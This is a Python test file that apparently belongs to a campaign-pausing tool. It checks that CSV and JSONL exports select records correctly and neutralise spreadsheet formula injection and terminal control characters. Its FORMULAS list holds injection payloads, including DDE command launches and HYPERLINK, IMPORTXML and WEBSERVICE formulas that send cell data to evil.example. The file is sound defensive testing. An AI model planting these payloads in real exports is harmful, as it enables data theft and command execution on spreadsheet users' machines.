"""An export is read by `run` and opened safely by a spreadsheet."""

import csv
import io
from collections.abc import Callable, Iterable, Iterator
from dataclasses import replace
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bulkpause.model import Columns, Item, Record, columns_of
from bulkpause.report import export
from bulkpause.report.export import COLUMNS, FIELDS, as_csv, as_jsonl
from bulkpause.report.totals import NOT_ATTEMPTED
from bulkpause.vocabulary import Status


RECORDS = [
    Record(id="1", status=Status.PAUSED, http_status=204, row=2),
    Record(id="2", status=Status.FAILED, http_status=500, trace_id="t-2", row=3),
    Record(id=None, status=Status.INVALID, row=4),
]
LEFT = [(Item(id="3", row=5), "a.jsonl")]
LOGS: dict[str | None, str] = {None: "a.jsonl"}


def blocks(
    records: Iterable[Record],
    unattempted: Iterable[tuple[Item, str]],
    statuses: frozenset[str],
) -> Iterator[Columns]:
    return export.blocks(
        columns_of(records, FIELDS), unattempted, statuses, log_of_run=LOGS
    )


def exported(*statuses: str) -> list[dict[str, Any]]:
    selected = blocks(RECORDS, LEFT, frozenset(statuses))
    return [
        dict(zip(COLUMNS, row, strict=True))
        for block in selected
        for row in zip(*block, strict=True)
    ]


def cells_of(message: str) -> list[str]:
    record = Record(id="1", status=Status.FAILED, message=message)
    text = "".join(as_csv(blocks([record], [], frozenset(Status))))
    (_, cells) = csv.reader(io.StringIO(text, newline=""))
    return cells


@pytest.mark.parametrize(
    ("statuses", "ids"),
    [
        (("paused",), ["1"]),
        (("failed", "paused"), ["1", "2"]),
        (("failed", NOT_ATTEMPTED), ["2", "3"]),
        (("unknown",), []),
    ],
    ids=str,
)
def test_export_selects_ids_by_status(statuses: list[str], ids: list[str]) -> None:
    assert [row["campaign_id"] for row in exported(*statuses)] == ids


def test_invalid_row_is_left_out() -> None:
    assert exported("invalid") == []


def test_unattempted_id_is_exported_as_not_attempted() -> None:
    (row,) = exported(NOT_ATTEMPTED)
    assert (row["status"], row["row"], row["http_status"]) == ("not_attempted", 5, None)


def test_csv_has_header_without_rows() -> None:
    assert "".join(as_csv([])) == ",".join(COLUMNS) + "\n"


def test_first_column_is_campaign_id() -> None:
    assert COLUMNS[0] == "campaign_id"


def test_json_export_has_one_id_per_line() -> None:
    lines = "".join(
        as_jsonl(blocks(RECORDS, LEFT, frozenset({"paused", "failed"})))
    ).splitlines()
    found = [orjson.loads(line) for line in lines]
    assert [(row["campaign_id"], row["status"]) for row in found] == [
        ("1", "paused"),
        ("2", "failed"),
    ]
    assert all(list(row) == list(COLUMNS) for row in found)


#: Texts that spreadsheets took for a formula, and texts that got past filters.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=1;=1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\v\f=1+1",
    " =1+1",
    "   @SUM(1)",
    "\xa0=1+1",
    "\N{IDEOGRAPHIC SPACE}=1+1",
    "\N{EM SPACE}+1",
    "\ufeff=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{RIGHT-TO-LEFT OVERRIDE}=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\x85=1+1",
    "\N{LINE SEPARATOR}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    '"=1+1"',
    '"",=1+1',
    "'=1+1",
    "x;=1+1",
    "x; =1+1",
    'x;"=1+1"',
    'x";=1+1;"',
    "x,=1+1",
    "x\t=1+1",
    "x\n=1+1",
    'x"\n=1+1,"',
]


@pytest.mark.parametrize("column", ["title", "message", "trace_id", "campaign_status"])
@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_formula_is_escaped_for_every_delimiter(formula: str, column: str) -> None:
    words: dict[str, Any] = {column: formula}
    record = replace(RECORDS[1], **words)
    text = "".join(as_csv(blocks([record], [], frozenset(Status))))

    assert text.count("\n") == 2
    for delimiter in (",", ";", "\t"):
        for cells in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not [cell for cell in cells if is_formula(cell)]


def is_formula(cell: str) -> bool:
    """Judge as a spreadsheet does that drops invisible characters."""
    return (
        cell.strip()
        .strip('"')
        .strip()
        .startswith(tuple("=+-@|%\uff1d\uff0b\uff0d\uff20"))
    )


def test_text_without_formula_is_unchanged() -> None:
    message = 'Größe = 2-1; a + b, 50 % @ [x] "quoted"'
    assert cells_of(message)[COLUMNS.index("message")] == message


@pytest.mark.parametrize("format_", [as_csv, as_jsonl])
def test_export_has_no_terminal_control_characters(
    format_: Callable[[Iterable[Columns]], Iterator[str]],
) -> None:
    record = Record(
        id="1", status=Status.FAILED, message="a\x1b[2J\x9b\N{RIGHT-TO-LEFT OVERRIDE}b"
    )
    text = "".join(format_(blocks([record], [], frozenset(Status))))

    assert text.replace("\n", "").isprintable()


@given(message=st.text(st.characters(exclude_categories=["Cs"])))
def test_any_message_stays_in_its_cell(message: str) -> None:
    cells = cells_of(message)
    assert len(cells) == len(COLUMNS)
    assert not is_formula(cells[COLUMNS.index("message")])
    assert not any("\n" in cell or "\r" in cell for cell in cells)


def test_export_names_campaigns() -> None:
    records = [Record(id="1", name="Summer\nsale", status=Status.FAILED)]
    left = [(Item(id="2", row=3, name="=1+1"), "=a.jsonl")]
    text = "".join(as_csv(blocks(records, left, frozenset([*Status, NOT_ATTEMPTED]))))
    first, second = csv.DictReader(io.StringIO(text))
    assert (first["campaign_id"], first["name"]) == ("1", "Summer sale")
    assert (second["campaign_id"], second["name"]) == ("2", "'=1+1")
    assert (first["log"], second["log"]) == ("a.jsonl", "'=a.jsonl")


def test_export_names_run_and_account_of_each_id() -> None:
    paused = Record(id="1", status=Status.PAUSED, run_id="run-1", account="germany")
    left = [(Item(id="2", row=3), "b.jsonl")]
    found = export.blocks(
        columns_of([paused], FIELDS),
        left,
        frozenset([*Status, NOT_ATTEMPTED]),
        log_of_run={"run-1": "a.jsonl"},
        account="germany",
    )
    rows = [row for block in found for row in zip(*block, strict=True)]
    assert [row[-3:] for row in rows] == [
        ("run-1", "germany", "a.jsonl"),
        (None, "germany", "b.jsonl"),
    ]
